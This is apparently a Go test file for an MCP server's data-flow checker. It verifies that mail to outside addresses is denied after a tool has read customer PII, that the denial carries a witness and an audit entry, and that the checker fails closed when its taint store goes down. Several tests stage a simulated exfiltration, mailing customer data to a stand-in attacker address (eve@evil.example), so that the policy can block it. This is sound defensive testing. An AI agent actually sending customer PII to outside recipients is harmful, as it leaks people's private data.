package flow_test

import (
	"context"
	"encoding/json"
	"errors"
	"log/slog"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/tenantmcp/tenantmcp/internal/logbuf"

	"github.com/modelcontextprotocol/go-sdk/jsonrpc"
	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/tenantmcp/tenantmcp/builder"
	"github.com/tenantmcp/tenantmcp/claims"
	"github.com/tenantmcp/tenantmcp/claims/devtoken"
	"github.com/tenantmcp/tenantmcp/flow"
	"github.com/tenantmcp/tenantmcp/guardedsql"
	"github.com/tenantmcp/tenantmcp/server"
)

// These tests run package flow inside the real server: tools registered
// with server.AddTool, calls made by the go-sdk client over in-memory
// transports with a token verified by package claims.

var notesSchema = builder.MustSchema(builder.SchemaDef{
	Levels: []builder.Level{{Name: "org", Key: builder.TextKey}},
	Tables: []builder.TableDef{{Name: "notes", Columns: []string{"id", "org_id", "body"}, PrimaryKey: []string{"id"}, Levels: map[string]string{"org_id": "org"}}},
})

const serverPolicy = `{
  "version": 1,
  "pii": {"email": "customer.pii", "name": "customer.pii"},
  "categories": {"customer.pii": {"level": "confidential", "to": ["$owner", "email:*@staff.example"]}},
  "destinations": {"$owner": "confidential", "email:*@staff.example": "confidential", "https://*.corp.example": "internal"},
  "tools": {"catalog": "public"}
}`

type Customer struct {
	Name  string `json:"name" pii:"name"`
	Email string `json:"email" pii:"email"`
}

type CustomerOut struct {
	Customer Customer `json:"customer"`
}

type CatalogOut struct {
	Items []string `json:"items"`
	Note  string   `json:"note"`
}

type MailIn struct {
	To   string `json:"to"`
	Body string `json:"body"`
}

type Sent struct {
	OK bool `json:"ok"`
}

type Empty struct{}

type world struct {
	srv    *server.Server
	issuer *devtoken.Issuer
	audit  *logbuf.Buffer
	sent   *[]string
	check  *flow.Checker
}

// newWorld builds a server with a flow checker (nil policy: no checker)
// and three tools: a customer read, a catalog read whose note may carry
// free text, and a mail sink.
func newWorld(t testing.TB, policy string) *world {
	t.Helper()
	return newWorldStore(t, policy, nil)
}

// newWorldStore is newWorld with the taints in st (nil: in memory).
func newWorldStore(t testing.TB, policy string, st flow.Store) *world {
	t.Helper()
	is, err := devtoken.Start(devtoken.Options{Addr: "127.0.0.1:0", Audience: "https://notes.test/mcp", Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { is.Close() })
	v, err := claims.New(claims.Options{Issuer: is.URL, Audience: []string{is.Audience}, JWKS: is.JWKS(),
		Mapping: claims.Mapping{Patterns: []string{"org:{org}"}}})
	if err != nil {
		t.Fatal(err)
	}
	db, err := guardedsql.Open(context.Background(), "sqlite::memory:", notesSchema, guardedsql.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	w := &world{issuer: is, audit: &logbuf.Buffer{}, sent: &[]string{}}
	opts := server.Options{Name: "flowtest", Verifier: v, DB: db, Levels: []string{"org"},
		AuditLogger: slog.New(slog.NewJSONHandler(w.audit, nil)), Logger: slog.New(slog.DiscardHandler)}
	if policy != "" {
		p, err := flow.ParsePolicy("policy.json", []byte(policy))
		if err != nil {
			t.Fatal(err)
		}
		if w.check, err = flow.New(p, flow.Options{Store: st}); err != nil {
			t.Fatal(err)
		}
		opts.Flow = w.check
	}
	if w.srv, err = server.New(opts); err != nil {
		t.Fatal(err)
	}
	must := func(err error) {
		if err != nil {
			t.Fatal(err)
		}
	}
	must(server.AddTool(w.srv, server.Tool{Name: "customer"}, func(context.Context, *guardedsql.DB, Empty) (CustomerOut, error) {
		return CustomerOut{Customer{Name: "Ann Lee", Email: "ann@customer.example"}}, nil
	}))
	type CatalogIn struct {
		Note string `json:"note"`
	}
	must(server.AddTool(w.srv, server.Tool{Name: "catalog"}, func(_ context.Context, _ *guardedsql.DB, in CatalogIn) (CatalogOut, error) {
		return CatalogOut{Items: []string{"room"}, Note: in.Note}, nil
	}))
	// The same handler as "mail", never a sink: the benchmarks' baseline.
	must(server.AddTool(w.srv, server.Tool{Name: "mail_plain"}, func(_ context.Context, _ *guardedsql.DB, in MailIn) (Sent, error) {
		return Sent{OK: in.To != ""}, nil
	}))
	if policy != "" {
		must(server.AddTool(w.srv, server.Tool{Name: "mail", Flow: flow.Decl{Level: flow.Public, Sink: &flow.Sink{Kind: flow.Email, DestArg: "to"}}},
			func(_ context.Context, _ *guardedsql.DB, in MailIn) (Sent, error) {
				if len(*w.sent) < 100 {
					*w.sent = append(*w.sent, in.To)
				}
				return Sent{OK: in.To != ""}, nil
			}))
		must(server.AddTool(w.srv, server.Tool{Name: flow.PlanToolName, Flow: flow.Decl{Level: flow.Public, EchoOnly: true}},
			func(ctx context.Context, _ *guardedsql.DB, p flow.Plan) (flow.PlanReport, error) {
				return w.check.CheckPlan(ctx, p)
			}))
		must(w.check.Verify())
	}
	return w
}

func (w *world) connect(t testing.TB, subject string) *mcp.ClientSession {
	t.Helper()
	tok, err := w.issuer.Mint(devtoken.Token{Subject: subject, Groups: []string{"org:north"}, TTL: time.Hour})
	if err != nil {
		t.Fatal(err)
	}
	ct, st := mcp.NewInMemoryTransports()
	ctx, cancel := context.WithCancel(context.Background())
	t.Cleanup(cancel)
	go w.srv.Run(ctx, st, func(context.Context) (string, error) { return tok, nil })
	cs, err := mcp.NewClient(&mcp.Implementation{Name: "t", Version: "1"}, nil).Connect(ctx, ct, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cs.Close() })
	return cs
}

func callTool(cs *mcp.ClientSession, name string, args map[string]any, meta mcp.Meta) (*mcp.CallToolResult, error) {
	return cs.CallTool(context.Background(), &mcp.CallToolParams{Name: name, Arguments: args, Meta: meta})
}

func TestServerDeniesWithWitness(t *testing.T) {
	w := newWorld(t, serverPolicy)
	cs := w.connect(t, "ann-agent")
	if _, err := callTool(cs, "mail", map[string]any{"to": "eve@evil.example", "body": "hi"}, nil); err != nil {
		t.Fatalf("nothing read yet, mail to anyone: %v", err)
	}
	res, err := callTool(cs, "customer", map[string]any{}, nil)
	if err != nil || res.IsError {
		t.Fatalf("customer: %v %v", err, res)
	}
	_, err = callTool(cs, "mail", map[string]any{"to": "eve@evil.example", "body": "hi"}, nil)
	var we *jsonrpc.Error
	if !errors.As(err, &we) || we.Code != server.CodeDenied || we.Message != "denied: "+flow.RuleCategory {
		t.Fatalf("mail after the PII: err = %v", err)
	}
	var data struct {
		Rule    string       `json:"rule"`
		Tool    string       `json:"tool"`
		Witness flow.Witness `json:"witness"`
	}
	if err := json.Unmarshal(we.Data, &data); err != nil {
		t.Fatal(err)
	}
	wit := data.Witness
	if data.Rule != flow.RuleCategory || data.Tool != "mail" || wit.Source.Level != flow.Confidential ||
		len(wit.Categories) != 1 || wit.Categories[0] != "customer.pii" || wit.Sink.Tool != "mail" || wit.Sink.Arg != "to" ||
		len(wit.IntroducedBy) == 0 || wit.IntroducedBy[0].Tool != "customer" {
		t.Fatalf("witness %s", we.Data)
	}
	if len(*w.sent) != 1 {
		t.Fatalf("the denied call ran its handler: sent %v", *w.sent)
	}
	// The audit log: the customer call with the call id the witness
	// names, and the denial with its rule and (redacted) witness.
	var okID, denied string
	for _, line := range strings.Split(strings.TrimSpace(w.audit.String()), "\n") {
		var m map[string]any
		if err := json.Unmarshal([]byte(line), &m); err != nil {
			t.Fatal(err)
		}
		if m["tool"] == "customer" {
			okID, _ = m["call_id"].(string)
		}
		if m["tool"] == "mail" && m["outcome"] == server.OutcomeDenied && m["rule"] == flow.RuleCategory {
			denied, _ = m["witness"].(string)
		}
	}
	if okID == "" || okID != wit.IntroducedBy[0].CallID {
		t.Errorf("witness call id %q, audit has %q", wit.IntroducedBy[0].CallID, okID)
	}
	if !strings.Contains(denied, `"customer.pii"`) || strings.Contains(denied, "eve@evil.example") {
		t.Errorf("audit witness %q: want the categories and a redacted destination", denied)
	}
	// To the customer's own address, or to staff: allowed.
	for _, to := range []string{"ann@customer.example", "desk@staff.example"} {
		if _, err := callTool(cs, "mail", map[string]any{"to": to, "body": "hi"}, nil); err != nil {
			t.Errorf("mail to %s: %v", to, err)
		}
	}
	if !strings.Contains(w.audit.String(), `"flow":"owner"`) {
		t.Error("the audit log does not note the $owner decision")
	}
}

func TestServerLabelsDetectedPII(t *testing.T) {
	w := newWorld(t, serverPolicy)
	cs := w.connect(t, "bob-agent")
	if _, err := callTool(cs, "catalog", map[string]any{"note": "nothing personal"}, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := callTool(cs, "mail", map[string]any{"to": "x@anywhere.example", "body": "the catalog"}, nil); err != nil {
		t.Fatalf("public catalog: %v", err)
	}
	// The same public tool, but its result carries an e-mail address in
	// free text: the redactor finds it, and the label follows.
	if _, err := callTool(cs, "catalog", map[string]any{"note": "write to zed@customer.example"}, nil); err != nil {
		t.Fatal(err)
	}
	_, err := callTool(cs, "mail", map[string]any{"to": "x@anywhere.example", "body": "the catalog"}, nil)
	var we *jsonrpc.Error
	if !errors.As(err, &we) || !strings.Contains(string(we.Data), "customer.pii") {
		t.Fatalf("after detected PII: %v", err)
	}
}

func TestServerPlanTool(t *testing.T) {
	w := newWorld(t, serverPolicy)
	cs := w.connect(t, "planner")
	res, err := callTool(cs, flow.PlanToolName, map[string]any{"steps": []any{
		map[string]any{"tool": "customer"},
		map[string]any{"tool": "mail", "args": map[string]any{"to": "eve@evil.example", "body": "$ret:0"}},
	}}, nil)
	if err != nil || res.IsError {
		t.Fatalf("plan: %v %+v", err, res)
	}
	raw, _ := json.Marshal(res.StructuredContent)
	var rep flow.PlanReport
	if err := json.Unmarshal(raw, &rep); err != nil {
		t.Fatal(err)
	}
	// eve might be the customer the data is about, as far as a plan can
	// tell: deferred to the call, with the witness it gets otherwise.
	if rep.Verdict != flow.VerdictDeferred || rep.Steps[1].Witness == nil || rep.Steps[1].Witness.Rule != flow.RuleCategory {
		t.Fatalf("plan report %s", raw)
	}
	if len(*w.sent) != 0 {
		t.Fatal("the plan check ran something")
	}
	// Its input schema is tenant-free and published.
	tools, err := cs.ListTools(context.Background(), nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, tl := range tools.Tools {
		if tl.Name == flow.PlanToolName {
			s, _ := json.Marshal(tl.InputSchema)
			if !strings.Contains(string(s), `"steps"`) {
				t.Errorf("plan input schema %s", s)
			}
			return
		}
	}
	t.Error("plan tool not listed")
}

func TestServerRefusesUncheckedSink(t *testing.T) {
	w := newWorld(t, "")
	err := server.AddTool(w.srv, server.Tool{Name: "mail", Flow: flow.Decl{Sink: &flow.Sink{Kind: flow.Email, DestArg: "to"}}},
		func(context.Context, *guardedsql.DB, MailIn) (Sent, error) { return Sent{}, nil })
	if !errors.Is(err, server.ErrConfig) {
		t.Fatalf("sink without a checker: %v", err)
	}
	w2 := newWorld(t, serverPolicy)
	err = server.AddTool(w2.srv, server.Tool{Name: "mail2", Flow: flow.Decl{Sink: &flow.Sink{Kind: flow.Email, DestArg: "recipient"}}},
		func(context.Context, *guardedsql.DB, MailIn) (Sent, error) { return Sent{}, nil })
	if !errors.Is(err, server.ErrConfig) || !errors.Is(err, flow.ErrDecl) {
		t.Fatalf("sink with a wrong DestArg: %v", err)
	}
}

// BenchmarkServerCall is a whole tools/call through the server and the
// go-sdk (in-memory transport), always the same handler and arguments:
// "baseline" on a server without a checker, "flow" with a checker (the
// result is labelled), "sink" with the tool declared a sink (the call is
// also judged, and allowed).
func BenchmarkServerCall(b *testing.B) {
	run := func(b *testing.B, w *world, tool string, args map[string]any) {
		cs := w.connect(b, "bench")
		b.ReportAllocs()
		for b.Loop() {
			if res, err := callTool(cs, tool, args, nil); err != nil || res.IsError {
				b.Fatal(err, res)
			}
		}
	}
	args := map[string]any{"to": "desk@staff.example", "body": "n"}
	b.Run("baseline", func(b *testing.B) { run(b, newWorld(b, ""), "mail_plain", args) })
	b.Run("flow", func(b *testing.B) { run(b, newWorld(b, serverPolicy), "mail_plain", args) })
	b.Run("sink", func(b *testing.B) { run(b, newWorld(b, serverPolicy), "mail", args) })
}

// flakyStore is the in-memory store that fails while down is set, as a
// shared store does in a database outage.
type flakyStore struct {
	flow.Store
	down atomic.Bool
}

func (f *flakyStore) Load(ctx context.Context, k flow.Key, now time.Time, retain time.Duration) (flow.Taint, error) {
	if f.down.Load() {
		return flow.Taint{}, errors.New("dial tcp 10.0.0.5:5432: connect: connection refused")
	}
	return f.Store.Load(ctx, k, now, retain)
}

func (f *flakyStore) Join(ctx context.Context, k flow.Key, now time.Time, retain time.Duration, add flow.Taint) error {
	if f.down.Load() {
		return errors.New("dial tcp 10.0.0.5:5432: connect: connection refused")
	}
	return f.Store.Join(ctx, k, now, retain, add)
}

// While the taint store is down, a result whose label cannot be recorded
// is withheld (internal error, nothing of the data, nothing of the store),
// and every sink call is denied; once it is back, calls work again.
func TestTaintStoreOutageFailsClosed(t *testing.T) {
	st := &flakyStore{Store: flow.NewMemoryStore()}
	w := newWorldStore(t, serverPolicy, st)
	cs := w.connect(t, "ann-agent")
	st.down.Store(true)
	res, err := callTool(cs, "customer", map[string]any{}, nil)
	if err != nil || !res.IsError {
		t.Fatalf("customer during the outage: %v %+v, want a tool error", err, res)
	}
	msg := res.Content[0].(*mcp.TextContent).Text
	for _, leak := range []string{"ann@customer.example", "Ann Lee", "10.0.0.5", "connection refused"} {
		if strings.Contains(msg, leak) {
			t.Fatalf("withheld result says %q", msg)
		}
	}
	if res.StructuredContent != nil {
		t.Fatalf("structured content released during the outage: %v", res.StructuredContent)
	}
	_, err = callTool(cs, "mail", map[string]any{"to": "desk@staff.example", "body": "hi"}, nil)
	var we *jsonrpc.Error
	if !errors.As(err, &we) || we.Code != server.CodeDenied || we.Message != "denied: "+flow.RuleTaintStore {
		t.Fatalf("sink during the outage: %v, want denied: %s", err, flow.RuleTaintStore)
	}
	if len(*w.sent) != 0 {
		t.Fatalf("a sink ran during the outage: %v", *w.sent)
	}
	st.down.Store(false)
	if res, err := callTool(cs, "customer", map[string]any{}, nil); err != nil || res.IsError {
		t.Fatalf("customer after the outage: %v %+v", err, res)
	}
	if _, err := callTool(cs, "mail", map[string]any{"to": "eve@evil.example", "body": "hi"}, nil); !errors.As(err, &we) || we.Message != "denied: "+flow.RuleCategory {
		t.Fatalf("the PII read after the outage must taint: %v", err)
	}
}
